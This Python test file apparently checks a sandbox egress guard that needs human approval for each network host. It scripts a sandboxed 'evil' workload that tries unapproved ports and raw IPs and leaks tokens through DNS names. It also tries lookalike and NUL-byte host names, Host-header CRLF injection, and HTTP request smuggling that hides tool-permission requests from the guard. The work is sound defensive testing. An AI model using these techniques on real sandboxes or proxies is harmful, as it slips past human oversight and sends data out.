"""T1 to T4: what an approval of one host does not open. The attempts of docs/leaks.md are the rest of these classes."""

from __future__ import annotations

from tests.bottles.evil.record import Tried, attempt
from tests.bottles.evil.stage import Stage

_CANARY = "the canaries' packets"


@attempt(
    "T1", "a host that nobody was asked for", control="the same request, after a person has approved it", oracle=_CANARY
)
def host_without_approval(stage: Stage) -> Tried:
    token, allowed = stage.evil.token(), stage.evil.token()
    said = stage.evil.run("web('other.test', '/x')", token)
    reached = stage.arrived(token)
    stage.approve_host(stage.evil, "other.test:80")
    said += stage.evil.run("web('other.test', '/x')", allowed)
    return Tried(stage.comes(allowed), reached, said)


@attempt("T1", "another port of an approved host", control="the approved port", oracle=_CANARY)
def other_port_of_an_approved_host(stage: Stage) -> Tried:
    token, allowed = stage.evil.token(), stage.evil.token()
    said = stage.evil.run(
        "for port in (443, 8080, 22, 53, 3128):\n"
        "    try:\n"
        "        web('other.test', '/x', port, 4)\n"
        "    except OSError as error:\n"
        "        print(port, error)",
        token,
    )
    reached = stage.arrived(token)
    stage.evil.run("web('other.test', '/x')", allowed)
    return Tried(stage.comes(allowed), reached, said)


@attempt("T1", "the address of an approved host, without its name", control="the same host by its name", oracle=_CANARY)
def address_of_an_approved_host(stage: Stage) -> Tried:
    token, allowed = stage.evil.token(), stage.evil.token()
    said = stage.evil.run("tcp('93.184.215.15', 80, ('GET /' + TOKEN + ' HTTP/1.1\\r\\n\\r\\n').encode())", token)
    reached = stage.arrived(token)
    stage.evil.run("web('other.test', '/x')", allowed)
    return Tried(stage.comes(allowed), reached, said)


@attempt(
    "T2",
    "a message in the name of a host that is asked for, by the tool, by a connection and by DNS",
    control="the name is looked up after a person has approved it",
    oracle="the name server's own packets",
)
def name_of_a_request(stage: Stage) -> Tried:
    token, allowed = stage.evil.token(), stage.evil.token()
    said = stage.evil.run(
        """
        print(tool('request_capability', kind='host', host=TOKEN + '.test:80', reason='to look at ' + TOKEN))
        tool('capability_status')
        ask(TOKEN + '.test')
        try:
            web(TOKEN + '.test', '/x')
        except OSError as error:
            print(error)
        """,
        token,
    )
    stage.command("pending")
    stage.page_list()
    stage.deny_all()
    stage.evil.run("tool('capability_status', wait_seconds=1)")
    reached = stage.arrived(token)
    stage.approve_host(stage.evil, f"{allowed}.test:80")
    stage.evil.run(f"ask('{allowed}.test')")
    return Tried(stage.comes(allowed), reached, said)


@attempt(
    "T3",
    "names that look like an approved one: below it, with it in the middle, ending alike, with a NUL byte",
    control="the approved name, in capitals and with a final dot",
    oracle=_CANARY,
)
def names_like_an_approved_one(stage: Stage) -> Tried:
    token, allowed = stage.evil.token(), stage.evil.token()
    stage.approve_host(stage.evil, "wild.test:80")
    said = stage.evil.run(
        """
        for name in ('two.one.wild.test', 'evilwild.test', 'wild.test.evil.test', 'alias.wild.test'):
            try:
                web(name, '/x')
            except OSError as error:
                print(name, error)
        ask([b'evil.test\\0', b'wild', b'test'])
        ask([b'evil.test', b'wild', b'test'])
        """,
        token,
    )
    reached = stage.arrived(token)
    stage.evil.run("web('WILD.test.', '/x')", allowed)
    return Tried(stage.comes(allowed), reached, said)


@attempt(
    "T3",
    "an approved host in the connection, another one in the request's `Host` and in its target",
    control="the approved host in both",
    oracle=_CANARY,
)
def other_host_in_the_request(stage: Stage) -> Tried:
    token, allowed = stage.evil.token(), stage.evil.token()
    said = stage.evil.run(
        """
        path = '/' + TOKEN
        for target, host in ((path, 'private.test'), ('http://private.test' + path, 'other.test'),
                             (path, 'other.test\\r\\nHost: private.test'), (path, 'other.test@private.test')):
            try:
                tcp('other.test', 80, f'GET {target} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n'.encode())
            except OSError as error:
                print(host, error)
        """,
        token,
    )
    reached = stage.arrived(token)
    stage.evil.run("web('other.test', '/x')", allowed)
    return Tried(stage.comes(allowed), reached, said)


@attempt(
    "T4",
    "requests to the guard that are hidden in others: two lengths, a chunk, a bare line feed, another target",
    control="a plain call of the same tool is asked",
    oracle="the requests that a person sees",
)
def requests_hidden_from_the_guard(stage: Stage) -> Tried:
    before = len(stage.pending(stage.evil.slug))
    said = stage.evil.run(
        """
        call = json.dumps({'jsonrpc': '2.0', 'id': 1, 'method': 'tools/call', 'params': {'name': 'request_capability',
                           'arguments': {'kind': 'host', 'host': 'hidden.test', 'reason': 'x'}}})
        head = ('POST /mcp HTTP/1.1\\r\\nHost: guard.bottle.internal\\r\\nContent-Type: application/json\\r\\n'
                'Accept: application/json, text/event-stream\\r\\n')
        inner = head + f'Content-Length: {len(call)}\\r\\n\\r\\n{call}'
        for head in ('Content-Length: 0\\r\\nContent-Length: %d' % len(inner),
                     'Transfer-Encoding: chunked\\r\\nContent-Length: %d' % len(inner),
                     'X: y\\nContent-Length: 0'):
            try:
                tcp('guard.bottle.internal', 80,
                    f'POST /x HTTP/1.1\\r\\nHost: other.test\\r\\n{head}\\r\\n\\r\\n{inner}'.encode(), 4)
            except OSError as error:
                print(head, error)
        """
    )
    reached = len(stage.pending(stage.evil.slug)) > before
    stage.evil.run("tool('request_capability', kind='host', host='plain.test', reason='x')")
    asked = [one["rule"] for one in stage.pending(stage.evil.slug)]
    return Tried({"host": "plain.test:443"} in asked, reached, said)
